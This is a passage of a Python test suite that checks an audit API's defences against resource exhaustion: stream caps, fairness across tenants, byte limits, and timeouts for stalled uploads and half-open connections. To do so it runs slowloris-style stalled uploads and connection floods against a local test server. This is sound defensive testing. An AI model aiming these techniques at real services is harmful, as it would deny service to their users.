                contextlib.suppress(httpx.HTTPError),
                api.stream("GET", f"/v1/audits/{audit['id']}/events") as stream,
            ):
                lines.extend(stream.iter_lines())
            ended.set()

        reader = threading.Thread(target=read, daemon=True)
        reader.start()
        time.sleep(1.0)
        revoked = time.perf_counter()
        _revoke(held, key)
        stopped = ended.wait(10)
        seconds = time.perf_counter() - revoked
    events = [line for line in lines if line.startswith("event:")]
    print(
        f"key revoked: stream {'ended' if stopped else 'still open'} after {seconds:.1f} s, {len(events)} event(s)"
    )
    assert stopped and seconds < 4 and len(events) == 1


def test_a_revoked_keys_long_poll_answers_401(held: Live) -> None:
    key = held.key("l4-poll")
    with _from("127.0.0.1", held.url, key) as api:
        audit = api.post("/v1/audits", json=bound_request()).json()
        etag = api.get(f"/v1/audits/{audit['id']}").headers["ETag"]
        threading.Timer(1.0, _revoke, (held, key)).start()
        start = time.perf_counter()
        response = api.get(
            f"/v1/audits/{audit['id']}", params={"wait": "20s"}, headers={"If-None-Match": etag}
        )
        seconds = time.perf_counter() - start
    print(f"?wait=20s, key revoked 1 s in: {response.status_code} after {seconds:.1f} s")
    assert response.status_code == 401 and seconds < 5


MAX_STREAMS = 2


def _open_stream(api: httpx.Client, stack: contextlib.ExitStack, audit_id: str) -> Iterator[str]:
    """An event stream held open (its first event read) until `stack` closes; keep the lines' iterator
    referenced (collected, it closes the connection)."""
    response = stack.enter_context(api.stream("GET", f"/v1/audits/{audit_id}/events"))
    assert response.status_code == 200
    lines = response.iter_lines()
    assert next(line for line in lines if line.startswith("event:")) == "event: audit"
    return lines


def _assert_streams_429(response: httpx.Response) -> None:
    assert response.status_code == 429, response.text
    assert int(response.headers["Retry-After"]) >= 1
    assert "ICLAUDIT_MAX_OPEN_STREAMS" in response.json()["error"]["message"]


def test_a_tenants_open_streams_and_long_polls_are_capped(held: Live) -> None:
    """Issue 20 (uploads: a per-tenant cap on open connections/streams): with ICLAUDIT_MAX_OPEN_STREAMS=2, a
    tenant holding two event streams gets 429 naming the setting for a third stream and for a long-poll;
    another tenant's stream opens; once one stream closes the tenant's long-poll is served again."""
    with held.client("c-streams") as api, held.client("c-other") as other, contextlib.ExitStack() as first:
        # audits that stay PENDING for the test's length, behind the held worker (cancelled at its end)
        audit = api.post("/v1/audits", json=held.gate.request()).json()
        theirs = other.post("/v1/audits", json=held.gate.request()).json()
        with contextlib.ExitStack() as second:
            streams = [_open_stream(api, first, audit["id"]), _open_stream(api, second, audit["id"])]
            third = api.get(f"/v1/audits/{audit['id']}/events")
            poll = api.get(f"/v1/audits/{audit['id']}", params={"wait": "5s"})
            print(f"{MAX_STREAMS} streams open: a third {third.status_code}, a long-poll {poll.status_code}")
            _assert_streams_429(third)
            _assert_streams_429(poll)
            with contextlib.ExitStack() as others:
                _open_stream(other, others, theirs["id"])
            assert api.get(f"/v1/audits/{audit['id']}").status_code == 200  # a plain poll is not a stream
            del streams[1]  # the second stream closes with its ExitStack
        deadline = time.monotonic() + 10
        while (poll := api.get(f"/v1/audits/{audit['id']}", params={"wait": "0.5s"})).status_code == 429:
            assert time.monotonic() < deadline, "the closed stream was never released"
            time.sleep(0.2)
        print(f"one stream closed: a long-poll {poll.status_code}")
        assert poll.status_code == 200
        api.post(f"/v1/audits/{audit['id']}/cancel")
        other.post(f"/v1/audits/{theirs['id']}/cancel")


def test_a_schedule_firing_every_second_is_422_naming_cron(live: Live) -> None:
    """Default ICLAUDIT_SCHEDULE_MIN_INTERVAL_SECONDS (60): 21 schedules made 169 audits in 20 s."""
    with live.client("l4-cron") as api:
        for body, path in (
            ({"cron": "* * * * * *"}, "$.cron"),  # six fields, seconds last: every second
            ({"cron": "* * * * * */30"}, "$.cron"),
            ({"cron": "0 * * * * 0,1"}, "$.cron"),  # twice a minute, one second apart
            ({"interval_seconds": 1}, "$.interval_seconds"),
        ):
            response = api.post("/v1/schedules", json={"request": bound_request(), **body})
            print(f"{body}: {response.status_code} {response.json()['error']['message']}")
            assert response.status_code == 422 and response.json()["error"]["details"][0]["path"] == path
            assert "ICLAUDIT_SCHEDULE_MIN_INTERVAL_SECONDS" in response.json()["error"]["message"]
        assert api.get("/v1/schedules").json()["schedules"] == []
        for body in ({"cron": "* * * * *"}, {"interval_seconds": 60}):
            created = api.post("/v1/schedules", json={"request": bound_request(), **body})
            assert created.status_code == 201, created.text
            api.delete(f"/v1/schedules/{created.json()['id']}")


def test_schedules_per_tenant_are_capped_under_concurrency(tight: Live) -> None:
    key = tight.key("l4-schedules")
    start = threading.Barrier(8)

    def create(_: int) -> httpx.Response:
        with _from("127.0.0.1", tight.url, key) as api:
            start.wait()
            return api.post("/v1/schedules", json={"request": bound_request(), "cron": "0 3 * * *"})

    with ThreadPoolExecutor(8) as pool:
        answers = list(pool.map(create, range(8)))
    codes = [a.status_code for a in answers]
    with tight.client("l4-schedules") as api:
        held = api.get("/v1/schedules").json()["schedules"]
    print(f"8 concurrent creates, ICLAUDIT_MAX_SCHEDULES={MAX_SCHEDULES}: {codes}; {len(held)} held")
    assert codes.count(201) == MAX_SCHEDULES and codes.count(429) == 8 - MAX_SCHEDULES
    assert len(held) == MAX_SCHEDULES
    refused = next(a for a in answers if a.status_code == 429)
    assert "ICLAUDIT_MAX_SCHEDULES" in refused.json()["error"]["message"] and refused.headers["Retry-After"]


# --- H4: amplification: full lists capped by bytes, sweeps by base × points ------------------------------


def _scored_request(n: int, seed: int) -> dict:
    """A real `bound` audit from n + n scores (about 10 n bytes as JSON each side)."""
    import numpy as np

    rng = np.random.default_rng(seed)
    return bound_request(
        counts=None,
        scores_in=[round(x, 6) for x in rng.normal(1.0, 1.0, n).tolist()],
        scores_out=[round(x, 6) for x in rng.normal(0.0, 1.0, n).tolist()],
    )


def test_full_list_pages_stop_at_the_byte_limit(tight: Live) -> None:
    """10 audits of ~0.5 MB: `view=full` with page_size 50 answered them all in one page (80 such audits:
    135 MiB); now a page stops past ICLAUDIT_LIST_MAX_BYTES (2 MiB here) with next_page_token, and paging
    on lists each audit once."""
    with tight.client("h4-list") as api:
        ids = []
        for i in range(10):
            audit = api.post("/v1/audits", json=_scored_request(25_000, i)).json()
            wait_for(api.get, audit["id"], timeout=120)
            ids.append(audit["id"])
        pages, seen, token = [], [], None
        while True:
            params = {"view": "full", "page_size": 50, **({"page_token": token} if token else {})}
            response = api.get("/v1/audits", params=params)
            assert response.status_code == 200, response.text
            pages.append(len(response.content))
            body = response.json()
            seen += [a["id"] for a in body["audits"]]
            token = body["next_page_token"]
            if token is None:
                break
    print(f"10 audits of ~0.5 MB, view=full: {len(pages)} pages of {[f'{b / 2**20:.2f}' for b in pages]} MiB")
    assert sorted(seen) == sorted(ids) and len(seen) == len(set(seen))
    assert len(pages) > 1 and max(pages) <= LIST_MAX_BYTES


@pytest.mark.parametrize("route", ["/v1/sweeps", "/v1/schedules"])
def test_a_sweep_storing_base_times_points_past_the_limit_is_413(live: Live, route: str) -> None:
    """A ~0.6 MB base × 32 points would store ~19 MB (1.9 MiB × 64 was +577 MB RAM, +122 MB in the
    database): over ICLAUDIT_SWEEP_MAX_BYTES (16 MiB), 413 at $.base before a child is built."""
    sweep = {"base": _scored_request(30_000, 0), "grid": {"labels.x": [str(i) for i in range(32)]}}
    body = sweep if route == "/v1/sweeps" else {"sweep": sweep, "cron": "0 3 * * *"}
    raw = json.dumps(body).encode()
    with live.client("h4-sweep") as api:
        start = time.perf_counter()
        response = api.post(route, content=raw, headers={"Content-Type": "application/json"})
        seconds = time.perf_counter() - start
        print(
            f"{route}: {len(raw):,}-byte base × 32: {response.status_code} after {seconds * 1000:.0f} ms; "
            f"{response.json()['error']['message'] if response.is_error else ''}"
        )
        assert response.status_code == 413, response.text[:300]
        error = response.json()["error"]
        assert "ICLAUDIT_SWEEP_MAX_BYTES" in error["message"] and error["details"][0]["path"] == "$.base"
        assert api.get("/v1/sweeps").json()["sweeps"] == [] and api.get("/v1/audits").json()["audits"] == []
        assert api.get("/v1/schedules").json()["schedules"] == []


# --- H3, M6 and slow connections: uploads stream before a slot is taken, and are parsed off the loop -------

SLOTS = 4  # ICLAUDIT_API_CONCURRENCY of the `uploads` server
UPLOADS = 2  # its ICLAUDIT_MAX_CONCURRENT_UPLOADS
BODY_TIMEOUT = 6  # its ICLAUDIT_BODY_TIMEOUT_SECONDS
HEADER_TIMEOUT = 2  # its ICLAUDIT_HEADER_TIMEOUT_SECONDS


@pytest.fixture(scope="module")
def uploads(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Live]:
    """A server with few request slots and short queue, body and header deadlines."""
    state = tmp_path_factory.mktemp("uploads")
    proc, url, _ = serve(
        state,
        auth=True,
        extra_env={
            "ICLAUDIT_API_CONCURRENCY": str(SLOTS),
            "ICLAUDIT_API_QUEUE_SECONDS": "2",
            "ICLAUDIT_MAX_CONCURRENT_UPLOADS": str(UPLOADS),
            "ICLAUDIT_BODY_TIMEOUT_SECONDS": str(BODY_TIMEOUT),
            "ICLAUDIT_HEADER_TIMEOUT_SECONDS": str(HEADER_TIMEOUT),
            "ICLAUDIT_LOG_FORMAT": "text",
        },
    )
    try:
        yield Live(url, proc, state, 0, [])
    finally:
        stop(proc)


def _stalled_upload(live: Live, key: str) -> socket.socket:
    """A multipart upload that sends its headers and first row, then nothing more (1 MB declared)."""
    host, port = live.url.removeprefix("http://").split(":")
    part = (
        b'--XyZ\r\nContent-Disposition: form-data; name="file"; filename="d.jsonl"\r\n'
        b'Content-Type: application/octet-stream\r\n\r\n{"text": "slow", "label": "a"}\n'
    )
    head = (
        f"POST /v1/datasets HTTP/1.1\r\nHost: {host}\r\nAuthorization: Bearer {key}\r\n"
        "Content-Type: multipart/form-data; boundary=XyZ\r\nContent-Length: 1000000\r\n\r\n"
    ).encode()
    sock = socket.create_connection((host, int(port)), timeout=BODY_TIMEOUT + 10)
    sock.sendall(head + part)
    return sock


def _status_line(sock: socket.socket, deadline: float | None = None) -> str:
    """The answer's status line, or "no answer" by `deadline` (time.monotonic())."""
    if deadline is not None:
        sock.settimeout(max(0.01, deadline - time.monotonic()))
    try:
        return sock.recv(4096).split(b"\r\n", 1)[0].decode()
    except TimeoutError:
        return "no answer"


def test_slow_uploads_hold_no_request_slot(uploads: Live) -> None:
    """Three tenants each stall two uploads (6 > the 4 request slots): another tenant's requests are
    answered at once (32 such uploads gave every other tenant 503); a third upload of one tenant is 429
    (ICLAUDIT_MAX_CONCURRENT_UPLOADS) before its body is read; the stalled uploads are 408 once their body
    stops for ICLAUDIT_BODY_TIMEOUT_SECONDS."""
    keys = [uploads.key(f"h3-{i}") for i in range(3)]
    stalled = [_stalled_upload(uploads, key) for key in keys for _ in range(UPLOADS)]
    opened = time.perf_counter()
    try:
        time.sleep(0.5)
        third = _stalled_upload(uploads, keys[0])
        third_status = _status_line(third)
        third.close()
        latencies, codes = [], []
        with uploads.client("h3-well-behaved") as api:
            for _ in range(10):
                start = time.perf_counter()
                codes.append(api.get("/v1/audits").status_code)
                latencies.append(time.perf_counter() - start)
        deadline = time.monotonic() + BODY_TIMEOUT + 5
        answers = [_status_line(sock, deadline) for sock in stalled]
        waited = time.perf_counter() - opened
    finally:
        for sock in stalled:
            sock.close()
    print(
        f"{len(stalled)} stalled uploads, {SLOTS} slots: another tenant's GETs {codes}, max "
        f"{max(latencies) * 1000:.0f} ms; a third upload of one tenant: {third_status!r}; the stalled ones "
        f"after {waited:.1f} s: {set(answers)}"
    )
    assert codes == [200] * 10 and max(latencies) < 1.0
    assert third_status == "HTTP/1.1 429 Too Many Requests"
    assert answers == ["HTTP/1.1 408 Request Timeout"] * len(stalled) and waited < BODY_TIMEOUT + 5


def test_half_open_connections_are_closed_after_the_header_deadline(uploads: Live) -> None:
    """200 connections that send half a request line (1,500 were all open after 60 s): closed by the server
    within ICLAUDIT_HEADER_TIMEOUT_SECONDS; /healthz answers meanwhile."""
    host, port = uploads.url.removeprefix("http://").split(":")
    socks = []
    for _ in range(200):
        sock = socket.create_connection((host, int(port)), timeout=HEADER_TIMEOUT + 8)
        sock.sendall(b"GET /healthz HTT")
        socks.append(sock)
    start = time.perf_counter()
    healthz = httpx.get(f"{uploads.url}/healthz", timeout=5).status_code
    closed = 0
    deadline = time.monotonic() + HEADER_TIMEOUT + 4
    try:
        for sock in socks:
            sock.settimeout(max(0.01, deadline - time.monotonic()))
            with contextlib.suppress(TimeoutError, ConnectionResetError):
                if sock.recv(1) == b"":
                    closed += 1
    finally:
        for sock in socks:
            sock.close()
    seconds = time.perf_counter() - start
    print(
        f"200 half-open connections: {closed} closed by the server after {seconds:.1f} s; /healthz {healthz}"
    )
    assert healthz == 200 and closed == 200 and seconds < HEADER_TIMEOUT + 4


def test_a_large_upload_is_parsed_off_the_event_loop(uploads: Live) -> None:
    """A ~40 MB JSONL upload (a 47 MB one stalled /healthz for 6.2 s): /healthz keeps answering while it is
    sent, parsed, checked and stored: 95 % of the probes within 250 ms, or on a machine so busy that the
    probes before the upload already took long, within 3× the slowest of those; and every probe within a
    second and a half, a fraction of the stall a parse on the event loop makes (one probe of 1.006 s, once,
    in a full run on a busy machine: a lone stall, cause not found, not the parse)."""
    rows = "".join(
        json.dumps({"text": f"row {i} " + "lorem ipsum dolor sit amet " * 6, "label": "ab"[i % 2]}) + "\n"
        for i in range(200_000)
    ).encode()
    with uploads.client("m6") as api:
        assert api.get("/v1/datasets").status_code == 200  # the key is verified
        idle = threading.Event()
        threading.Timer(1.0, idle.set).start()
        before = _probe_healthz(uploads.url, idle)
        done = threading.Event()
        probe: list[list[float]] = []
        prober = threading.Thread(target=lambda: probe.append(_probe_healthz(uploads.url, done)))
        prober.start()
        time.sleep(0.3)
        start = time.perf_counter()
        try:
            response = api.post("/v1/datasets", files={"file": ("big.jsonl", rows)}, timeout=120)
        finally:
            elapsed = time.perf_counter() - start
            time.sleep(0.3)
            done.set()
            prober.join()
    latencies = probe[0]
    print(
        f"{len(rows) / 2**20:.1f} MiB upload: {response.status_code} after {elapsed:.1f} s; /healthz "
        f"{len(latencies)} probes, max {max(latencies) * 1000:.0f} ms"
    )
    assert response.status_code == 201, response.text[:300]
    assert response.json()["n_train"] + response.json()["n_test"] == 200_000
    typical = float(np.percentile(latencies, 95))
    assert typical < max(0.25, min(1.5, 3 * max(before))), (typical, max(before))
    assert max(latencies) < 1.5, (max(latencies), max(before))


# --- M3: the inline executor takes audits round robin over tenants -----------------------------------------


def _when(text: str) -> float:
    from datetime import datetime

    return datetime.fromisoformat(text.replace("Z", "+00:00")).timestamp()


def test_another_tenants_audit_waits_for_one_audit_not_a_backlog(live: Live) -> None:
    """One tenant queues 16 audits of about half a second (the red team: 320, and another tenant's trivial
    audit stayed PENDING for the whole 56 s watched); another tenant's audit submitted behind them starts
    after the one running, before any of the backlog that was waiting."""
    with live.client("m3-flood") as flood, live.client("m3-well") as well:
        backlog = [
            flood.post("/v1/audits", json=long_mia_request(trials=150_000, seed=i)).json() for i in range(16)
        ]
        wait_for(flood.get, backlog[0]["id"], states=("RUNNING", "SUCCEEDED"))
        submitted = time.time()
        mine = well.post("/v1/audits", json=bound_request()).json()
        done = wait_for(well.get, mine["id"], timeout=120)
        waited = time.time() - submitted
        flood_audits = [flood.get(f"/v1/audits/{a['id']}").json() for a in backlog]
        for audit in flood_audits:
            if audit["state"] in ("PENDING", "RUNNING"):
                flood.post(f"/v1/audits/{audit['id']}/cancel")
    started = _when(done["started_at"])
    overtaking = [a for a in flood_audits if a["started_at"] and submitted < _when(a["started_at"]) < started]
    finished = sum(1 for a in flood_audits if a["state"] == "SUCCEEDED")
    print(
        f"16 queued audits of another tenant: this one done after {waited:.1f} s, {len(overtaking)} of the "
        f"backlog started between its submit and its start ({finished} of 16 finished by then)"
    )
    assert done["state"] == "SUCCEEDED" and overtaking == [] and finished < 16


# --- M4: webhook deliveries per tenant ---------------------------------------------------------------------


def test_one_tenants_slow_receivers_leave_room_for_anothers_deliveries(live: Live) -> None:
    """8 webhooks of one tenant whose receiver takes 3 s, 2 audits (32 slow deliveries; the red team's 16
    slow receivers raised another tenant's delay from 0.5 s to 90 s): another tenant's delivery arrives
    within a couple of ticks, since one tenant holds at most ICLAUDIT_WEBHOOK_TENANT_CONCURRENCY (2) of the
    4 delivery threads."""
    port = live.hooks_port
    with live.client("m4-slow") as slow, live.client("m4-well") as well:
        hooks = [
            slow.post("/v1/webhooks", json={"url": f"http://127.0.0.1:{port}/hooks/slow/{i}"}).json()
            for i in range(8)
        ]
        well.post("/v1/webhooks", json={"url": f"http://127.0.0.1:{port}/hooks/m4-well"})
        for _ in range(2):
            wait_for(slow.get, slow.post("/v1/audits", json=bound_request()).json()["id"])
        time.sleep(1.0)  # the slow deliveries are claimed and in flight
        audit = well.post("/v1/audits", json=bound_request()).json()
        wait_for(well.get, audit["id"])
        finished = time.monotonic()
        while not any(h.startswith("/hooks/m4-well") for h in live.hits):
            assert time.monotonic() - finished < 90, "no delivery of the well-behaved tenant"
            time.sleep(0.05)
        delay = time.monotonic() - finished
        slow_done = sum(1 for h in live.hits if h.startswith("/hooks/slow"))
        for hook in hooks:
            slow.delete(f"/v1/webhooks/{hook['id']}")
    print(
        f"32 slow deliveries queued: another tenant's delivery arrived {delay:.1f} s after its audit ended "
        f"({slow_done} slow ones had arrived)"
    )
    assert delay < 2.0
